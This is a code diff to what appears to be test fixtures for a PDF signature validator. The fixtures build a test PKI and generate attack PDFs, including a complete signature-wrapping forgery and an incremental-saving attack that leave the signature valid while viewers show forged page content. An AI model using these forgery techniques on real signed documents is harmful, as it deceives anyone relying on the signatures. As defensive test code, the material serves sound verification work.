@@ -100,7 +100,14 @@ def make_pki(at: datetime, *, common_name: str = "Test Root") -> MiniPki:
         .add_extension(
             x509.KeyUsage(True, True, False, False, False, False, False, False, False), True
         )
-        .add_extension(x509.ExtendedKeyUsage([x509.ObjectIdentifier("1.3.6.1.5.5.7.3.36")]), False)
+        .add_extension(
+            # documentSigning (RFC 9336) plus emailProtection: NSS, and so poppler's pdfsig,
+            # trusts a PDF signer only with emailProtection or no EKU at all (measured).
+            x509.ExtendedKeyUsage(
+                [x509.ObjectIdentifier("1.3.6.1.5.5.7.3.36"), ExtendedKeyUsageOID.EMAIL_PROTECTION]
+            ),
+            False,
+        )
         .add_extension(x509.SubjectKeyIdentifier.from_public_key(key.public_key()), False)
         .add_extension(
             x509.AuthorityKeyIdentifier.from_issuer_public_key(root_key.public_key()), False
@@ -108,9 +115,6 @@ def make_pki(at: datetime, *, common_name: str = "Test Root") -> MiniPki:
         .sign(root_key, hashes.SHA384())
     )
     return MiniPki(root=root, root_key=root_key, signer=RawSigner(cert, key))
-
-
-_ = ExtendedKeyUsageOID  # re-exported for tests that build TSA certificates
 
 
 def simple_pdf(text: str = "Temporary travel document", pages: int = 1) -> bytes:
@@ -140,6 +144,33 @@ def _contents_span(pdf: bytes) -> tuple[int, int]:
     _, length1, start2, _, _ = _byte_range(pdf)
     assert pdf[length1 : length1 + 1] == b"<" and pdf[start2 - 1 : start2] == b">"
     return length1, start2
+
+
+def _first_page_ref(pdf: bytes) -> int:
+    from pyhanko.pdf_utils.reader import PdfFileReader
+
+    reader = PdfFileReader(io.BytesIO(pdf))
+    ref = reader.root["/Pages"]["/Kids"].raw_get(0)
+    return int(ref.idnum)
+
+
+def _with_fresh_xref(body: bytes) -> bytes:
+    """Append one complete xref table (last definition of each object wins) and a trailer,
+    the way an attacker makes a rearranged file readable again."""
+    offsets: dict[int, int] = {}
+    for match in re.finditer(rb"(?:^|[\r\n])(\d+) 0 obj\b", body):
+        offsets[int(match.group(1))] = match.start(1)
+    root = re.findall(rb"/Root (\d+) 0 R", body)[-1].decode()
+    size = max(offsets) + 1
+    lines = [b"xref", f"0 {size}".encode(), b"0000000000 65535 f\r"]
+    for number in range(1, size):
+        if number in offsets:
+            lines.append(f"{offsets[number]:010d} 00000 n\r".encode())
+        else:
+            lines.append(b"0000000000 65535 f\r")
+    xref_at = len(body) + 1
+    trailer = f"trailer\n<< /Size {size} /Root {root} 0 R >>\nstartxref\n{xref_at}\n%%EOF\n"
+    return body + b"\n" + b"\n".join(lines) + b"\n" + trailer.encode()
 
 
 def _append_revision(pdf: bytes, edit: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
@@ -201,9 +232,7 @@ def isa_without_xref(pdf: bytes) -> bytes:
     """Appended objects that redefine the page content, without xref or trailer: lenient
     viewers fix the file up by scanning for objects, and show the new content."""
     numbers = [int(n) for n in re.findall(rb"(\d+) 0 obj", pdf)]
-    page_match = re.search(rb"(\d+) 0 obj\s*<<[^>]*?/Type\s*/Page\b", pdf)
-    assert page_match is not None
-    page_number = int(page_match.group(1))
+    page_number = _first_page_ref(pdf)
     new = max(numbers) + 1
     return (
         pdf
@@ -224,33 +253,54 @@ def append_after_eof(pdf: bytes) -> bytes:
 
 
 def signature_wrapping(pdf: bytes) -> bytes:
-    """Move the second signed block behind new content and point /ByteRange at it.
+    """Signature wrapping (Mladenov et al. 2019).
 
-    The signed bytes stay byte-for-byte the same (so the CMS still verifies over them), but
-    they now sit inside a dummy stream, and a new xref + trailer after them describes a
-    different document.
+    The originally signed second block is moved, untouched, into a dummy stream further on;
+    a fresh copy of the signature dictionary, defined after it, carries a /ByteRange pointing
+    at the moved block, so hashing the range still yields exactly the signed bytes and the CMS
+    verifies. Forged page content and a fresh xref follow: a viewer shows the attacker's page.
     """
     a, length1, start2, length2, match = _byte_range(pdf)
     part1 = pdf[:length1]
     contents = pdf[length1:start2]
     part2 = pdf[start2 : start2 + length2]
-    forged_page = b"BT /F1 24 Tf 72 700 Td (FORGED) Tj ET"
-    # The new layout: part1 | contents | forged objects | wrapped stream holding part2
     numbers = [int(n) for n in re.findall(rb"(\d+) 0 obj", pdf)]
     new = max(numbers) + 1
-    injected = (
-        f"\n{new} 0 obj\n<< /Length {len(forged_page)} >>\nstream\n".encode()
-        + forged_page
-        + b"\nendstream\nendobj\n"
-        + f"{new + 1} 0 obj\n<< /Length {len(part2)} >>\nstream\n".encode()
-    )
-    new_start2 = length1 + len(contents) + len(injected)
+    wrapper_head = f"\n{new} 0 obj\n<< /Length {length2} >>\nstream\n".encode()
+    new_start2 = start2 + len(wrapper_head)
     byte_range = f"/ByteRange [{a} {length1} {new_start2} {length2}]".encode()
     old = match.group(0)
     assert len(byte_range) <= len(old)
     byte_range += b" " * (len(old) - len(byte_range))
-    part1 = part1[: match.start()] + byte_range + part1[match.end() :]
-    return part1 + contents + injected + part2 + b"\nendstream\nendobj\n%%EOF\n"
+    # the signature dictionary around /Contents, copied with the new /ByteRange
+    sig_start = pdf.rfind(b" 0 obj", 0, length1)
+    sig_start = max(pdf.rfind(b"\n", 0, sig_start), pdf.rfind(b"\r", 0, sig_start)) + 1
+    sig_end = pdf.index(b"endobj", start2) + len(b"endobj")
+    edited = pdf[: match.start()] + byte_range + pdf[match.end() :]
+    sig_copy = edited[sig_start:sig_end]
+    forged = b"BT /F1 24 Tf 72 700 Td (FORGED) Tj ET"
+    page = _first_page_ref(pdf)
+    page_obj = re.search(rf"(?:^|[\r\n]){page} 0 obj\s*(<<.*?)\s*endobj".encode(), pdf, re.DOTALL)
+    assert page_obj is not None
+    page_dict = re.sub(
+        rb"/Contents \d+ 0 R", f"/Contents {new + 1} 0 R".encode(), page_obj.group(1)
+    )
+    body = (
+        part1
+        + contents
+        + wrapper_head
+        + part2
+        + b"\nendstream\nendobj\n"
+        + sig_copy
+        + b"\n"
+        + f"{new + 1} 0 obj\n<< /Length {len(forged)} >>\nstream\n".encode()
+        + forged
+        + b"\nendstream\nendobj\n"
+        + f"{page} 0 obj\n".encode()
+        + page_dict
+        + b"\nendobj\n"
+    )
+    return _with_fresh_xref(body)
 
 
 # --- evil annotation / sneaky signature (Mainka et al. 2021) ----------------------------------
